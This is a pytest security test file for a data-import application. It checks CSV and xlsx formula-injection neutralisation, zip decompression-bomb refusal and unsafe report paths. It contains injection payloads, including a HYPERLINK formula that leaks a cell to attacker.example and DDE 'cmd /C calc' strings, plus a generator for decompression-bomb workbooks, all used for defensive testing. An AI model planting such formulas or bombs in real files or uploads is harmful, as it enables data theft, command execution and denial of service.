"""Attack suite: hostile files in, formula cells out.

- issue 14 item 6: names such as =HYPERLINK(…), =cmd|' /C calc'!A0, +SUM(1+1), @SUM(1) go through import
  and come back in every CSV and xlsx the software writes as text, never as a live formula (OWASP CSV
  injection rule: a cell starting with = + - @ tab or CR gets a leading apostrophe); the `.errors.xlsx`
  report writes rejected values as text cells.
- issue 14 item 7: a decompression bomb (a small xlsx that inflates to hundreds of MB, or holds millions of
  cells) is refused before parsing, within a time and memory budget; validation runs off the event loop, so
  another user is served meanwhile.
- issue 14 item 14: `zhizao import /dev/null` (or a FIFO) writes no report beside it; reports go beside
  regular files only, or where --report says.
"""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import sys
import threading
import time
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
import pytest

from attack_fixtures import csv_bytes
from web_fixtures import bearer
from zhizao import uscc
from zhizao.web.serving import free_port

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def is_number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False


def assert_no_live_formula_in_csv(text: str) -> list[str]:
    """Every cell that starts with a formula character is a plain number or carries the leading apostrophe."""
    import csv

    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    bad = [c for c in cells if c.startswith(DANGEROUS) and not is_number(c)]
    assert not bad, bad[:5]
    return cells


def assert_no_live_formula_in_xlsx(path: Path) -> list:
    wb = openpyxl.load_workbook(path)  # not data_only: formulas would show as data_type 'f'
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value.startswith(DANGEROUS):
                    assert c.value.startswith("'") or c.quotePrefix, (ws.title, c.coordinate, c.value)
                values.append(c.value)
    return values


# ------------------------------------------------------------------------------------------------ item 6
def test_formula_names_go_through_import_and_come_back_neutralised_in_every_csv(
    attack_app, attack_client, attack_tokens
):
    h = bearer(attack_tokens["admin"])
    firms = [uscc.make("500106", f"MA66{i:04d}") for i in range(len(PAYLOADS))]
    data = csv_bytes(
        [["uscc", "name", "region", "industry_code"]] + [[u, p, "500106", "C36"] for u, p in zip(firms, PAYLOADS)]
    )
    rep = attack_client.post("/api/v1/imports", files={"file": ("f.csv", data, "text/csv")}, headers=h).json()
    assert rep["ok"], rep["issues"]
    assert attack_client.post(f"/api/v1/imports/{rep['token']}/confirm", headers=h).json()["ok"]
    wh = attack_app.state.zz.wh
    marks = ", ".join("?" for _ in firms)
    stored = {
        r["uscc"]: r["name"] for r in wh.rows(f"SELECT uscc, name FROM enterprise WHERE uscc IN ({marks})", firms)
    }
    assert sorted(stored.values()) == sorted(PAYLOADS)  # the warehouse keeps what was written
    # JSON carries the value as it is
    js = attack_client.get("/api/v1/enterprises?q=91500106MA66&limit=1000", headers=h).json()["rows"]
    assert sorted(r["name"] for r in js if r["uscc"] in firms) == sorted(PAYLOADS)
    # every CSV download neutralises it
    text = attack_client.get("/api/v1/enterprises?q=91500106MA66&format=csv", headers=h).text
    cells = assert_no_live_formula_in_csv(text)
    for p in PAYLOADS:
        assert "'" + p in cells
    # numbers keep their sign: a negative figure is a number, not text
    assert_no_live_formula_in_csv(attack_client.get("/api/v1/figures?format=csv", headers=h).text)


def test_a_rejected_formula_value_is_written_as_text_in_the_xlsx_error_report(attack_db, tmp_path):
    from zhizao.ingest.tables import run_import
    from zhizao.store import db as store

    path = tmp_path / "w.duckdb"
    shutil.copy(attack_db, path)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "企业名录"
    ws.append(["统一社会信用代码", "企业名称", "所在区县", "行业代码"])
    for i, p in enumerate(PAYLOADS):
        c = ws.cell(i + 2, 1)
        c.value, c.data_type = p, "s"  # the bad value sits in the credit-code column as text
        ws.cell(i + 2, 2, "企业").data_type = "s"
        ws.cell(i + 2, 3, "沙坪坝区")
        ws.cell(i + 2, 4, "C36")
    f = tmp_path / "bad.xlsx"
    wb.save(f)
    con = store.open_warehouse(path)
    try:
        out = run_import(f, con)
    finally:
        con.close()
    assert not out.ok and out.report and out.report.suffix == ".xlsx"
    values = assert_no_live_formula_in_xlsx(out.report)
    for p in PAYLOADS:
        assert p in values or "'" + p in values, p


def test_the_csv_error_report_neutralises_rejected_values(attack_db, tmp_path):
    from zhizao.ingest.tables import run_import
    from zhizao.store import db as store

    path = tmp_path / "w.duckdb"
    shutil.copy(attack_db, path)
    f = tmp_path / "bad.csv"
    f.write_bytes(
        csv_bytes([["uscc", "name", "region", "industry_code"]] + [[p, "企业", "500106", "C36"] for p in PAYLOADS])
    )
    con = store.open_warehouse(path)
    try:
        out = run_import(f, con)
    finally:
        con.close()
    assert out.report and out.report.suffix == ".csv"
    cells = assert_no_live_formula_in_csv(out.report.read_text(encoding="utf-8-sig"))
    assert all("'" + p in cells for p in PAYLOADS)


def test_the_neutraliser_follows_the_owasp_rule():
    from zhizao.safecells import neutralise

    for p in PAYLOADS + ["\tcmd", "\rcmd", "-", "+", "@"]:
        assert neutralise(p) == "'" + p
    for v in ("沙坪坝", "a=b", "", None, 0, -5, -2.5, 3.0, True):
        assert neutralise(v) == v


# ------------------------------------------------------------------------------------------------ item 7
def bomb(path: Path, inflated_mb: int = 200) -> Path:
    """A valid-looking workbook whose one sheet inflates to `inflated_mb` MB of cells (about 240 KB zipped)."""
    head = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    ).encode()
    row = b'<row r="1">' + b'<c t="inlineStr"><is><t>x</t></is></c>' * 200 + b"</row>"
    n = inflated_mb * 1024 * 1024 // len(row)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
            'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
        z.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            '<sheet name="企业名录" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write(head)
            for _ in range(n):
                f.write(row)
            f.write(b"</sheetData></worksheet>")
    return path


@pytest.fixture(scope="module")
def bomb_file(tmp_path_factory) -> Path:
    return bomb(tmp_path_factory.mktemp("bomb") / "bomb.xlsx")


def test_a_decompression_bomb_is_refused_before_parsing_within_budget(bomb_file):
    from zhizao.ingest.tables.issues import ImportFileError
    from zhizao.ingest.tables.read import read_file

    assert bomb_file.stat().st_size < 2 * 1024 * 1024
    tracemalloc.start()
    t0 = time.perf_counter()
    with pytest.raises(ImportFileError) as e:
        read_file(bomb_file)
    seconds = time.perf_counter() - t0
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert seconds < 5, seconds
    assert peak < 64 * 1024 * 1024, peak
    assert "MB" in e.value.reason_en or "cells" in e.value.reason_en


def test_a_sheet_with_too_many_cells_is_refused_before_parsing(tmp_path, monkeypatch):
    from zhizao.ingest.tables import read as R
    from zhizao.ingest.tables.issues import ImportFileError

    f = bomb(tmp_path / "cells.xlsx", inflated_mb=4)  # ~ 110,000 cells, a few MB
    monkeypatch.setattr(R, "MAX_CELLS", 50_000)
    with pytest.raises(ImportFileError) as e:
        R.read_file(f)
    assert "cells" in e.value.reason_en


def test_a_lying_central_directory_is_caught_while_inflating(tmp_path):
    """A member that declares a small size but inflates to more is refused (the inflated bytes are counted,
    not the header believed)."""
    from zhizao.ingest.tables.issues import ImportFileError
    from zhizao.ingest.tables.read import read_file

    f = bomb(tmp_path / "lie.xlsx", inflated_mb=2)
    data = bytearray(f.read_bytes())
    # shrink the declared uncompressed size of the sheet in the central directory and the local header
    z = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = z.getinfo("xl/worksheets/sheet1.xml")
    z.close()
    real = info.file_size
    fake = (1000).to_bytes(8 if real >= 0xFFFFFFFF else 4, "little")
    old = real.to_bytes(len(fake), "little")
    assert data.count(old) >= 1
    data = data.replace(old, fake)
    f.write_bytes(bytes(data))
    with pytest.raises(ImportFileError):
        read_file(f)


def test_the_bomb_through_the_api_is_a_clear_400_with_a_report(attack_client, attack_tokens, bomb_file):
    t0 = time.perf_counter()
    r = attack_client.post(
        "/api/v1/imports",
        files={"file": ("bomb.xlsx", bomb_file.read_bytes(), "application/octet-stream")},
        headers=bearer(attack_tokens["admin"]),
    )
    assert time.perf_counter() - t0 < 10
    body = r.json()
    assert r.status_code == 200 and not body["ok"]
    assert any("MB" in i["reason_en"] or "cells" in i["reason_en"] for i in body["issues"])


def test_validation_runs_off_the_event_loop_so_others_are_served(attack_db, tmp_path, monkeypatch):
    """While one upload validates (slowly), another user's request is answered at once. Real HTTP server."""
    import httpx
    import uvicorn

    from zhizao.web import imports as I
    from zhizao.web.app import create_app

    path = tmp_path / "w.duckdb"
    shutil.copy(attack_db, path)
    real = I._run

    def slow(*a, **kw):
        time.sleep(3)
        return real(*a, **kw)

    monkeypatch.setattr(I, "_run", slow)
    app = create_app(path)
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="error"))
    th = threading.Thread(target=server.run, daemon=True)
    th.start()
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(100):
            if server.started:
                break
            time.sleep(0.05)
        tok = httpx.post(base + "/api/v1/auth/token", data={"username": "admin", "password": "admin-password-1"})
        h = {"Authorization": "Bearer " + tok.json()["access_token"]}
        data = csv_bytes(
            [["uscc", "name", "region", "industry_code"], [uscc.make("500106", "MA550001"), "甲", "500106", "C36"]]
        )
        done = {}

        def upload():
            done["r"] = httpx.post(base + "/api/v1/imports", files={"file": ("a.csv", data)}, headers=h, timeout=30)

        t = threading.Thread(target=upload)
        t.start()
        time.sleep(0.5)
        t0 = time.perf_counter()
        r = httpx.get(base + "/api/v1/me", headers=h, timeout=30)
        waited = time.perf_counter() - t0
        t.join()
        assert r.status_code == 200 and done["r"].status_code == 200
        assert waited < 1.5, f"another user waited {waited:.1f} s behind a validating upload"
    finally:
        server.should_exit = True
        th.join(10)
        app.state.zz.wh.close()


# ----------------------------------------------------------------------------------------------- item 14
def _cli(*args, timeout=60):
    exe = Path(sys.executable).with_name("zhizao")
    return subprocess.run(
        [str(exe), *args], capture_output=True, text=True, timeout=timeout, env={**os.environ, "COLUMNS": "200"}
    )


def test_import_of_dev_null_writes_no_report_beside_it(attack_db, tmp_path):
    path = tmp_path / "w.duckdb"
    shutil.copy(attack_db, path)
    target = Path("/dev/null.errors.csv")
    existed = target.exists()
    try:
        r = _cli("import", "/dev/null", "--db", str(path))
        assert r.returncode != 0 and "Traceback" not in r.stderr + r.stdout
        assert not target.exists() or existed
    finally:
        if target.exists() and not existed:
            target.unlink()


def test_import_of_a_fifo_is_refused_at_once_without_a_report(attack_db, tmp_path):
    path = tmp_path / "w.duckdb"
    shutil.copy(attack_db, path)
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    r = _cli("import", str(fifo), "--db", str(path), timeout=60)
    assert r.returncode != 0 and "regular file" in (r.stdout + r.stderr)
    assert not (tmp_path / "pipe.errors.csv").exists()


def test_the_report_option_still_writes_where_it_says(attack_db, tmp_path):
    path = tmp_path / "w.duckdb"
    shutil.copy(attack_db, path)
    rep = tmp_path / "out" / "report.csv"
    r = _cli("import", "/dev/null", "--db", str(path), "--report", str(rep))
    assert r.returncode != 0 and rep.exists()
